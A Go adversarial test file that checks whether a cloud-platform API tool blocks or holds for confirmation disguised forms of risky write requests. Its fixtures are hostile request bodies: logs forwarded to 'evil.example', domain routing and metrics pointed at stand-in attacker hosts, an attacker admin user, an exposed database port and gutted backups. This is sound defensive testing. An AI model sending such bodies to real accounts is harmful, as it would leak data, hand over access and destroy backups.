package adversarial_test

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/http"
	"testing"
)

// risky is an operation with a body that nobody may send unasked, and a body of the same
// fields that means no harm: it is what the other hides behind.
type risky struct {
	operation, body, harmless string
	on                        func(w *world) string
	// yaml is the field with a manifest, which has forms of its own.
	yaml string
	tree func(name string) node
}

// riskiest are the operations whose bodies decide what is deleted, replaced, bought or
// let in.
func riskiest() []risky {
	org := func(w *world) string { return w.sim.OrgID("Northwind Trading") }
	of := func(hostname string) func(w *world) string {
		return func(w *world) string { return w.service(twinProject, hostname) }
	}
	routing := func(w *world) string {
		return w.find("/project/"+w.project(twinProject)+"/public-http-routing", "sslEnabled", true)
	}
	backups := func(n int) string {
		return fmt.Sprintf(`{"backupPeriod":"0 3 * * *","retentionPolicy":{"maxTotalFiles":%d,"maxTotalGiB":%d,"protectedTags":[],"minDaily":%d,"maxDaily":%d,"minWeekly":%d,"maxWeekly":%d,"minMonthly":0,"maxMonthly":%d}}`, n, n, n/20, n, n/20, n, n)
	}
	port := func(policy, ranges string) string {
		return `{"publicIpType":"IP_V6","publicPort":15432,"internalPort":5432,"internalProtocol":"tcp","firewallPolicy":"` + policy + `","firewallIpRanges":[` + ranges + `],"firewallAllowMyIp":false}`
	}
	return []risky{
		{operation: "PostProjectServiceStackImport", on: ownProject, yaml: "yaml", tree: replacement},
		{operation: "PutProjectFirstClassRecipeDevelopmentContainer", on: ownProject, yaml: "serviceImportYaml", tree: replacement},
		{operation: "PostClientProjectImport", on: org, yaml: "yaml", tree: paidProject},
		{operation: "PostClientProject", on: org, body: `{"name":"dear","mode":"SERIOUS","tagList":[],"envVariables":[]}`, harmless: `{"name":"dear","mode":"LIGHT","tagList":[],"envVariables":[]}`},
		{operation: "PutProjectModeUpgrade", on: ownProject, body: `{"mode":"SERIOUS"}`, harmless: `{"mode":"LIGHT"}`},
		{operation: "PutServiceStackUserDataEnvFile", on: ownService, body: `{"envFile":"A=1\n"}`, harmless: `{"envFile":""}`},
		{operation: "PutProjectEnvFile", on: ownProject, body: `{"envFile":"A=1\n"}`, harmless: `{"envFile":""}`},
		{operation: "PutServiceStackTriggerPipeline", on: of("worker"), body: `{"startWithoutCode":true,"userData":[]}`, harmless: `{"startWithoutCode":false,"userData":[]}`},
		{
			operation: "PutPublicHttpRouting", on: routing, body: `{"sslEnabled":true,"cdnEnabled":false,"domains":["evil.example.com"],"locations":[{"path":"/","port":3000,"serviceStackId":"%app"}]}`,
			harmless: `{"sslEnabled":true,"cdnEnabled":false,"domains":[],"locations":[]}`,
		},
		{operation: "PostServiceStackPublicPortRouting", on: of("db"), body: port("BLACKLIST", ""), harmless: port("WHITELIST", `"10.0.0.1/32"`)},
		{operation: "PutServiceStackBackupConfig", on: of("db"), body: backups(1), harmless: backups(100)},
		{operation: "PutProjectPublicIpv4Shared", on: ownProject, body: `{"enabled":false}`, harmless: `{"enabled":true}`},
		{operation: "PutProjectRemoteLogging", on: ownProject, body: `{"syslogConfig":"network(\"evil.example\")","certificate":""}`, harmless: `{"syslogConfig":"","certificate":""}`},
		{operation: "PatchPrometheusConfig", on: ownProject, body: `{"configs":[{"targets":["evil.example:9090"],"labels":{}}]}`, harmless: `{"configs":[]}`},
		{
			operation: "PostClientUser", on: org, body: `{"email":"evil@example.com","firstName":"E","lastName":"V","languageId":"en","roleCode":"ADMIN","canViewFinances":true,"canEditFinances":false,"canCreateProjects":true}`,
			harmless: `{"email":"evil@example.com","firstName":"E","lastName":"V","languageId":"en","roleCode":"GUEST","canViewFinances":false,"canEditFinances":false,"canCreateProjects":false}`,
		},
	}
}

// forms are all ways to write the body.
func (r risky) forms(w *world) []form {
	chance := rand.New(rand.NewPCG(1, 2))
	if r.yaml == "" {
		return jsonForms(w.fill(r.body), w.fill(r.harmless), chance)
	}
	var all []form
	for _, f := range yamlForms(r.tree, chance) {
		all = append(all, form{f.name, yamlBody(r.yaml, f.body)})
	}
	// The body around the manifest has forms, too.
	plain := yamlBody(r.yaml, written(r.tree("plain"), "block", nil))
	for _, f := range jsonForms(plain, yamlBody(r.yaml, "services: []\n"), chance) {
		all = append(all, form{"body-" + f.name, f.body})
	}
	return all
}

// TestAdversarialMutation writes the bodies of the riskiest operations in every way that
// may be read differently by somebody. No form is sent before a yes.
func TestAdversarialMutation(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.api(t, http.MethodPut, "/project/"+w.project(twinProject)+"/public-ipv4-shared", map[string]any{"enabled": true})
	w.settle(t)
	human := w.serve(t, how{args: []string{"--confirm", "human", "--api-rate-limit", "0"}})
	steps := w.serve(t, how{args: []string{"--confirm", "two-step", "--api-rate-limit", "0"}})
	for _, r := range riskiest() {
		forms := r.forms(w)
		if len(forms) < 20 {
			t.Errorf("%s has %d forms", r.operation, len(forms))
		}
		path := on(r.on(w))
		for i, f := range forms {
			attack(t, "mutation/"+r.operation+"-"+f.name, func(*testing.T) error {
				call := args{"operation": r.operation, "path": path, "body": f.body}
				if err := human.call("write_api", call).mustBe("blocked", "invalid_arguments"); err != nil {
					return fmt.Errorf("%w\nbody: %s", err, short(f.body))
				}
				if i%3 == 0 {
					if err := steps.call("write_api", call).mustBe("confirmation_required", "invalid_arguments", "blocked"); err != nil {
						return fmt.Errorf("%w\nbody: %s", err, short(f.body))
					}
				}
				return w.received(r.operation, f.body)
			})
		}
	}
	w.untouchedByAll(t, "mutation/")
}

// received is an attack's success where the platform got a body, however it is written.
func (w *world) received(operation, body string) error {
	meaning := func(raw []byte) string {
		var v any
		if json.Unmarshal(raw, &v) != nil {
			return string(raw)
		}
		again, _ := json.Marshal(v)
		return string(again)
	}
	for _, r := range w.requests() {
		if r.Operation == operation && meaning(r.Body) == meaning([]byte(body)) {
			return fmt.Errorf("it was sent to the platform: %s", short(body))
		}
	}
	return nil
}

// TestAdversarialMutationsReach is the control: where nobody has to be asked, many of the
// forms reach the platform.
func TestAdversarialMutationsReach(t *testing.T) {
	t.Parallel()
	attack(t, "mutation/control", func(t *testing.T) error {
		w := newWorld(t)
		never := w.serve(t, how{args: []string{"--confirm", "never", "--api-rate-limit", "0"}})
		for _, r := range riskiest() {
			path, sent := on(r.on(w)), 0
			forms := r.forms(w)
			for _, f := range forms {
				before := w.sentOf(r.operation)
				never.call("write_api", args{"operation": r.operation, "path": path, "body": f.body})
				sent += min(w.sentOf(r.operation)-before, 1)
			}
			if sent < 5 {
				t.Errorf("%s: %d of %d forms reach the platform", r.operation, sent, len(forms))
			}
		}
		return nil
	})
}

// replacement is an import that puts an empty version over a service that exists.
func replacement(name string) node {
	return mapping(
		"services", sequence(
			mapping("hostname", text(hostnameOf(name)), "type", text("nodejs@22"), "description", text("override: false"), "startWithoutCode", word("true")),
			mapping("hostname", text("api"), "type", text("nodejs@22"), "startWithoutCode", word("true"), "override", word("true")),
		),
	)
}

// paidProject is an import of a project whose core is paid.
func paidProject(string) node {
	return mapping(
		"project", mapping("name", text("dear"), "description", text("corePackage: LIGHT"), "corePackage", text("SERIOUS")),
		"services", sequence(mapping("hostname", text("newone"), "type", text("nodejs@22"), "startWithoutCode", word("true"))),
	)
}

// pick is one of many.
func pick[T any](chance *rand.Rand, of ...T) T { return of[chance.IntN(len(of))] }
